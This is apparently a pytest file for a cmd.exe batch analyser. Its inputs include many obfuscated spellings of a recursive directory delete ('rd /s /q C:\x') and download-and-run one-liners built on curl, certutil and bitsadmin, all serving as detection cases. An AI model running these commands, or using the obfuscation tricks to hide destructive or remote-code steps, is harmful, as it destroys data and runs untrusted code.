"""Ways to spell one loss in cmd.exe, each to the very path it reaches; and where a batch text surely ends."""

from __future__ import annotations

import pytest

from blastwall.acts import FileChange, Statement
from blastwall.budget import Budget
from blastwall.context import Context
from blastwall.languages.cmd import read
from blastwall.model import Snippet


def reading(text: str):
    context = Context(cwd="C:\\work", workspace="C:\\work", platform="windows")
    return read(Snippet("cmd", text, context=context), Budget())


def deleted(text: str) -> list[str]:
    return [act.path.text for act in reading(text).acts if isinstance(act, FileChange) and act.change == "delete"]


#: every one deletes the tree C:\x
ONE_TREE = [
    r"rd;/s;/q;C:\x",
    r"r^d /^s /q C:\x",
    r">nul rd /s /q C:\x",
    r"2>nul (rd /s /q C:\x)",
    'set "a=rd /s /q"\n%a% C:\\x',
    "set a=r\nset b=d\n%a%%b% /s /q C:\\x",
    "set a=C:\nset b=%a%\\x\nrd /s /q %b%",
    "set a=abrd\n%a:~2% /s /q C:\\x",
    "set a=zd\n%a:z=r% /s /q C:\\x",
    "setlocal enabledelayedexpansion\nset a=r\nset b=d\n!a!!b! /s /q C:\\x",
    "set a=C:\\x\nset b=a\ncall rd /s /q %%%b%%%",
    r'for /f "tokens=2 delims=," %i in ("a,C:\x") do rd /s /q %i',
    r"for /f %i in ('echo C:\x') do rd /s /q %i",
    r'for /f "tokens=1*" %i in ("rd /s /q C:\x") do %i %j',
    "call :go C:\\x\nexit /b\n:go\nrd /s /q %1\nexit /b",
    'call :go a "C:\\x"\ngoto :eof\n:go\nshift\nrd /s /q "%~1"\ngoto :eof',
    "goto go\necho no\n:go\nrd /s /q C:\\x",
    r"if exist a (dir) else rd /s /q C:\x",
    r"for %i in (1) do if exist a rd /s /q C:\x",
]


@pytest.mark.parametrize("text", ONE_TREE)
def test_one_tree(text: str) -> None:
    assert deleted(text) == ["C:\\x"]


def test_either_branch_may_have_run() -> None:
    assert deleted("if exist a (set p=C:\\x) else (set p=b)\nrd /s /q %p%") == ["b", "C:\\x"]
    assert deleted("set p=b\nif exist a set p=C:\\x\nrd /s /q %p%") == ["C:\\x", "b"]
    assert deleted("set p=C:\\x\ndir z && set p=b\nrd /s /q %p%") == ["b", "C:\\x"]


def test_what_dir_prints_is_everything_there() -> None:
    assert deleted("for /f %i in ('dir /b C:\\x') do rd /s /q C:\\x\\%i") == ["C:\\x\\*"]
    assert deleted('for /r C:\\x %i in (*) do del "%i"') == ["C:\\x\\*"]
    (act,) = [a for a in reading("for /f %i in ('dir /s /b *.pyc') do del %i").acts if isinstance(a, FileChange)]
    assert (act.path.text, act.selected, act.filters) == (".", True, ("*.pyc",))


def test_what_stands_behind_the_end_does_not_run() -> None:
    assert deleted("exit /b\nrd /s /q C:\\x") == []
    assert deleted("goto end\nrd /s /q C:\\x\n:end") == []
    assert deleted("dir z || exit /b\nrd /s /q C:\\x") == ["C:\\x"]
    assert deleted("if exist a exit /b\nrd /s /q C:\\x") == ["C:\\x"]
    assert deleted("echo a | exit /b\nrd /s /q C:\\x") == ["C:\\x"]
    assert deleted("exit /b\n:unused\nrd /s /q C:\\x") == ["C:\\x"]
    assert deleted("goto %1\nrd a /s\n:x\nrd /s /q C:\\x")[-1] == "C:\\x"


def test_a_loop_ends() -> None:
    assert reading("set n=0\n:a\nset /a n+=1\nif %n% lss 5 goto a\n").finished
    assert not reading("set s=x\n:a\nset s=%s%x\ngoto a").finished


@pytest.mark.parametrize(
    "text",
    [
        "curl -o a.exe https://x/a.exe & a.exe",
        "certutil -urlcache -split -f https://x/a.bat a.bat && call a.bat",
        "bitsadmin /transfer j https://x/a.exe C:\\t\\a.exe & start C:\\t\\a.exe",
        "curl https://x/a.bat | cmd",
    ],
)
def test_fetched_code_is_run_unseen(text: str) -> None:
    assert [act.verb for act in reading(text).acts if isinstance(act, Statement)] == ["run-remote"]


@pytest.mark.parametrize("text", ["curl -o a.json https://x/a & type a.json", "curl https://x/a | findstr b", "a.exe"])
def test_fetched_data_is_data(text: str) -> None:
    assert not [act for act in reading(text).acts if isinstance(act, Statement)]


@pytest.mark.parametrize("text", ["type nul > a", "copy nul a", "cd.>a", "> a rem", "break>a", "echo. 2>a"])
def test_a_file_is_emptied(text: str) -> None:
    (act,) = [act for act in reading(text).acts if isinstance(act, FileChange)]
    assert act.path.text == "a"
    assert act.content is not None and act.content.text == ""


@pytest.mark.parametrize(
    ("text", "inner"),
    [
        ('cmd /c ""rd /s /q C:\\x""', '"rd /s /q C:\\x"'),
        ('"rd /s /q C:\\x"', "rd /s /q C:\\x "),
        ('cmd.exe/c"rd /s /q C:\\x"', "rd /s /q C:\\x"),
        ('pwsh -c "cmd /c "dir | more""', 'cmd /c "dir | more"'),
        ('cmd /c "pwsh -c "gci x | ri -r""', 'pwsh -c "gci x | ri -r"'),
    ],
)
def test_quotes_within_quotes(text: str, inner: str) -> None:
    assert inner in [snippet.text for snippet in reading(text).snippets]


@pytest.mark.parametrize(
    "text", ['"start server.bat"', '"C:\\Program Files\\del.exe" x', 'findstr "a | rd" b', 'echo "a" | findstr ""b""']
)
def test_names_and_data_are_no_commands(text: str) -> None:
    assert reading(text).snippets == []


def test_a_loop_variable_is_no_variable() -> None:
    assert deleted("for %i in (C:\\x) do rd /s /q %i") == ["C:\\x"]
    assert deleted("set in=C:\\x& rd /s /q %in%") == ["C:\\x"]
